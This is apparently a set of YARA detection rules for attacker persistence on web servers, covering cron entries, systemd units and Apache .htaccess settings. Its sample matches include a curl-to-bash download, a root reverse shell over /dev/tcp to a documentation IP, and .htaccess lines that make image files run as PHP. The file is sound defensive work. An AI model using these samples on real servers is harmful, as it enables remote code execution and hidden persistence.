// Ways back in that an intruder of a web server leaves outside of its pages. Facts: crontab(5),
// systemd.service(5), Apache's documentation of AddType, AddHandler and php_value.

rule cron_fetches_program : persistence
{
    meta:
        description = "Entry of cron that fetches a program and runs it, or opens a way out"
        what = "entry of cron that fetches and runs: {Path}"
        level = "high"
        source = "crontab(5); MITRE ATT&CK T1053.003"
        match = "*/5 * * * * www-data curl -fsSL http://203.0.113.9/x | bash\n"
        match_2 = "@reboot root /bin/bash -c 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'\n"
        match_3 = "* * * * * /dev/shm/.x/kdevtmp\n"
        near_miss = "17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n"
        near_miss_2 = "0 3 * * * root curl -fsS https://hc.example.com/ping > /dev/null\n"
        near_miss_3 = "0 4 * * * root /usr/local/bin/backup > /tmp/backup.log\n"
    strings:
        $pipe = /(^|\n)[ \t]*(@(reboot|hourly|daily|weekly)|([0-9*\/,-]+[ \t]+){4}[0-9a-z*\/,-]+)[ \t]+[^\n]*((curl|wget)[ \t][^\n]*https?:[^\n]*\|[ \t]*(\/bin\/)?(ba|da|z)?sh|base64[ \t]+(-d|--decode)[^\n]*\|[ \t]*(ba)?sh|\/dev\/tcp\/)/
        $open = /(^|\n)[ \t]*(@(reboot|hourly|daily|weekly)|([0-9*\/,-]+[ \t]+){4}[0-9a-z*\/,-]+)[ \t]+([a-z_][a-z0-9_-]*[ \t]+)?(\/dev\/shm|\/var\/tmp|\/tmp)\//
    condition:
        filesize < 256KB and ($pipe or $open) and (filename == "" or filepath contains "cron" or filename contains "cron")
}

rule unit_runs_from_open_folder : persistence
{
    meta:
        description = "Unit of systemd that runs a program of an open folder, or fetches one"
        what = "unit of systemd that runs a program of an open folder, or fetches one: {Path}"
        level = "high"
        source = "systemd.service(5); MITRE ATT&CK T1543.002"
        match = "[Service]\nExecStart=/var/tmp/.cache/httpd\n"
        match_2 = "[Unit]\nDescription=x\n[Service]\nExecStart=/bin/sh -c 'curl http://203.0.113.9/a | sh'\n"
        near_miss = "[Service]\nExecStart=/usr/sbin/apachectl start\nPrivateTmp=true\n"
        near_miss_2 = "ExecStart=/var/tmp/x\n"
    strings:
        $service = "[Service]"
        $open = /\nExecStart(Pre|Post)?=-?@?(\/dev\/shm|\/var\/tmp|\/tmp)\//
        $fetch = /\nExecStart(Pre|Post)?=[^\n]*((curl|wget)[ \t][^\n]*https?:[^\n]*\|[ \t]*(ba|da|z)?sh|\/dev\/tcp\/|base64[ \t]+(-d|--decode))/
    condition:
        filesize < 64KB and $service and ($open or $fetch)
}

rule htaccess_runs_pictures : persistence
{
    meta:
        description = "Settings of Apache that make a picture a script, or put a script before every page"
        what = "settings of a web folder that make other files scripts: {Path}"
        level = "high"
        source = "Apache HTTP Server, mod_mime; PHP manual, auto_prepend_file"
        match = "AddType application/x-httpd-php .jpg .png\n"
        match_2 = "<FilesMatch \"\\.gif$\">\nSetHandler application/x-httpd-php\n</FilesMatch>\n"
        match_3 = "php_value auto_prepend_file /tmp/sess_a.php\n"
        near_miss = "AddType application/x-httpd-php .php .phtml\n"
        near_miss_2 = "<FilesMatch \"\\.php$\">\nSetHandler application/x-httpd-php\n</FilesMatch>\n"
        near_miss_3 = "AddType image/svg+xml .svg\n"
    strings:
        $add = /(^|\n)[ \t]*Add(Type|Handler)[ \t]+["']?(application\/x-httpd-php|php[0-9]?-script|cgi-script)[^\n]*\.(jpe?g|png|gif|ico|txt|css|svg|bmp|pdf)\b/ nocase
        $match = /<Files(Match)?[ \t][^>\n]*(jpe?g|png|gif|ico|txt|css|svg|bmp|pdf)[^>\n]*>[^<]{0,200}(SetHandler|ForceType)[ \t]+["']?(application\/x-httpd-php|php[0-9]?-script)/ nocase
        $prepend = /(^|\n)[ \t]*php_(admin_)?value[ \t]+auto_(prepend|append)_file[ \t]+["']?(\/tmp|\/dev\/shm|\/var\/tmp|php:|data:|https?:|[^\n]*(uploads|images)\/)/ nocase
    condition:
        filesize < 64KB and any of them and (filename == "" or filename == ".htaccess" or filename iendswith ".conf" or filename iendswith ".htaccess")
}
